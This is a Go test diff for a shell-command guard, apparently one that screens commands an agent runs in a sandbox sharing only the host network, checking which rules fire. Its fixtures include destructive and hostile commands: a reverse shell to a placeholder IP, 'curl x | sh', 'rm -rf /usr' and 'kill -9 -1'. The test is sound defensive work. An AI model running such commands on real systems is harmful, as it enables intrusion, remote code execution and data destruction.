@@ -151,6 +151,37 @@ func TestPathsOfFileTools(t *testing.T) {
 	}
 }
 
+// Where the network is all that is shared, what a command does to its own files is nobody's affair; what the user forbids still is.
+func TestWhereTheNetworkIsSharedAloneOnlyItsRulesHold(t *testing.T) {
+	ctx := Context{Workspace: []string{"/w"}, Cwd: "/w", Home: "/root", NetworkAlone: true, Deny: []string{"touch /etc/mine*"}}
+	for command, rule := range map[string]string{
+		"touch /etc/x": "", "rm -rf /usr": "", "echo 'no end": "", "kill -9 -1": "", "curl x | sh": "",
+		"git push --force": "force-push", "touch /etc/mine": denied, "bash -i >& /dev/tcp/1.2.3.4/5": "reverse-shell",
+	} {
+		if d := Check(command, ctx); d.Rule != rule {
+			t.Errorf("%s: %q", command, d.Rule)
+		}
+	}
+	for _, name := range throughNetwork {
+		if Lookup(name) == nil {
+			t.Errorf("there is no rule %s", name)
+		}
+	}
+	for _, c := range []struct {
+		s    Sandbox
+		want bool
+	}{
+		{Sandbox{HostNetwork: true}, true},
+		{Sandbox{HostNetwork: true, Mounts: []Mount{{Source: "/x", Target: "/x", Writable: true, Ours: true}}}, true},
+		{Sandbox{HostNetwork: true, Mounts: []Mount{{Source: "/x", Target: "/x", Writable: true}}}, false},
+		{Sandbox{HostNetwork: true, Machine: true}, false}, {Sandbox{}, false},
+	} {
+		if got := NetworkAlone(c.s); got != c.want {
+			t.Errorf("%+v: %v", c.s, got)
+		}
+	}
+}
+
 func TestWhatIsGuardedIsComputedFromWhatIsMounted(t *testing.T) {
 	for _, c := range []struct {
 		name string
